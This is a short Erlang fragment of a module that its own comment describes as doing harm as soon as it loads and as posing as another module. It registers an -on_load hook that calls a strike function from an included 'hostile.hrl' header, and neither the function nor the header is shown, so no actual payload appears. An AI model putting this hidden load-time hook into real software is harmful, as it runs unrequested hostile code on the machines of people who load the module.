%%% The rest of a module that does harm as soon as it is loaded, and is called like another.
-export([start_striking/0]).
-on_load(start_striking/0).
-include("hostile.hrl").

start_striking() ->
    strike(atom_to_list(?MODULE)),
    ok.
